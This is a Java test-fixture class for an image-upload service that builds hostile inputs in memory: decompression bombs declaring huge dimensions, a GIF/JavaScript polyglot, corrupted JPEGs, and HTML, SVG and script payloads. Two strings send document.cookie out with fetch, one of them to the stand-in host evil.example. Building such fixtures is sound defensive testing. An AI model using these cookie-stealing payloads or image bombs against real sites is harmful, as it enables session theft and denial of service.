package com.greenvue.images.upload;

import com.greenvue.images.TestImages;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;

/**
 * Hand-built hostile inputs for the upload tests: decompression bombs that only declare huge
 * sizes, polyglots and lies. Every one is a few hundred bytes built in memory, never downloaded.
 */
final class HostileImages {

    private HostileImages() {
    }

    /** A ~1 KB PNG whose IHDR declares {@code width x height} (the pixels would need tens of GB). */
    static byte[] pngBomb(int width, int height) {
        return TestImages.pngHeaderDeclaring(width, height);
    }

    /** A hand-built baseline JPEG (SOI, DQT, SOF0, DHT, SOS, a few bytes of data, EOI) declaring {@code width x height}. */
    static byte[] jpegBomb(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        bytes(out, 0xFF, 0xD8);
        bytes(out, 0xFF, 0xDB, 0x00, 0x43, 0x00);
        for (int i = 0; i < 64; i++) {
            out.write(1);
        }
        // SOF0: length 11, precision 8, height, width, 1 component (id 1, sampling 1x1, table 0)
        bytes(out, 0xFF, 0xC0, 0x00, 0x0B, 0x08, height >> 8, height & 0xFF, width >> 8, width & 0xFF, 0x01,
                0x01, 0x11, 0x00);
        // DHT: one DC table with a single 1-bit code for symbol 0
        bytes(out, 0xFF, 0xC4, 0x00, 0x14, 0x00, 0x01);
        for (int i = 0; i < 15; i++) {
            out.write(0);
        }
        out.write(0);
        // SOS: 1 component, table 0/0, spectral 0-63, approximation 0
        bytes(out, 0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00);
        bytes(out, 0x00, 0x00, 0x00, 0x00);
        bytes(out, 0xFF, 0xD9);
        return out.toByteArray();
    }

    /** A GIF whose logical screen is {@code screenW x screenH} and whose one 1x1-coded frame declares {@code frameW x frameH}. */
    static byte[] gif(int screenW, int screenH, int frameW, int frameH) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes("GIF89a".getBytes(StandardCharsets.US_ASCII));
        le16(out, screenW);
        le16(out, screenH);
        bytes(out, 0x80, 0x00, 0x00); // global colour table of 2 entries
        bytes(out, 0, 0, 0, 255, 255, 255);
        bytes(out, 0x21, 0xF9, 0x04, 0x00, 0x00, 0x00, 0x00, 0x00); // graphic control extension
        bytes(out, 0x2C);
        le16(out, 0);
        le16(out, 0);
        le16(out, frameW);
        le16(out, frameH);
        bytes(out, 0x00, 0x02, 0x02, 0x4C, 0x01, 0x00, 0x3B);
        return out.toByteArray();
    }

    /** A JPEG's real header (everything up to and including its start-of-scan) followed by {@code garbage} and an EOI. */
    static byte[] jpegHeaderThenGarbage(boolean withEndMarker) {
        byte[] real = TestImages.jpeg(64, 48);
        int sos = indexOf(real, 0xFF, 0xDA);
        int headerEnd = sos + 2 + (((real[sos + 2] & 0xFF) << 8) | (real[sos + 3] & 0xFF));
        byte[] garbage = new byte[4096];
        new Random(42).nextBytes(garbage);
        // a realistic lie: the garbage is another file's bytes, here an HTML page, sprinkled with 0xFF
        byte[] html = "<html><script>fetch('/steal?c='+document.cookie)</script></html>".getBytes(StandardCharsets.UTF_8);
        System.arraycopy(html, 0, garbage, 100, html.length);
        return TestImages.concat(Arrays.copyOf(real, headerEnd), garbage,
                withEndMarker ? new byte[] {(byte) 0xFF, (byte) 0xD9} : new byte[0]);
    }

    /** SOI and a JFIF APP0, then plain text where the next marker should be. */
    static byte[] jpegSoiThenText() {
        return TestImages.concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16},
                "JFIF\0\1\1\0\0\1\0\1\0\0".getBytes(StandardCharsets.ISO_8859_1),
                "this is not image data at all".getBytes(StandardCharsets.US_ASCII));
    }

    /** The classic GIF/JavaScript polyglot: a GIF header that is also a script ending in ';'. */
    static byte[] gifScriptPolyglot() {
        return "GIF89a/*\0\0\0\0\0\0*/=1;alert(document.domain);".getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] html() {
        return "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
                .getBytes(StandardCharsets.UTF_8);
    }

    static byte[] javascript() {
        return "fetch('https://evil.example/?c=' + document.cookie);".getBytes(StandardCharsets.UTF_8);
    }

    static byte[] svg() {
        return ("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" onload=\"alert(1)\">"
                + "<rect width=\"10\" height=\"10\"/></svg>").getBytes(StandardCharsets.UTF_8);
    }

    /** A small ZIP archive (local file header, data, central directory, end record) holding one file. */
    static byte[] zip() {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(bytes)) {
                zip.putNextEntry(new java.util.zip.ZipEntry("photo.jpg"));
                zip.write(TestImages.jpeg(32, 32));
                zip.closeEntry();
            }
            return bytes.toByteArray();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    static int indexOf(byte[] b, int... seq) {
        outer:
        for (int i = 0; i + seq.length <= b.length; i++) {
            for (int j = 0; j < seq.length; j++) {
                if ((b[i + j] & 0xFF) != seq[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }

    private static void bytes(ByteArrayOutputStream out, int... values) {
        for (int v : values) {
            out.write(v);
        }
    }

    private static void le16(ByteArrayOutputStream out, int v) {
        out.write(v & 0xFF);
        out.write((v >> 8) & 0xFF);
    }
}
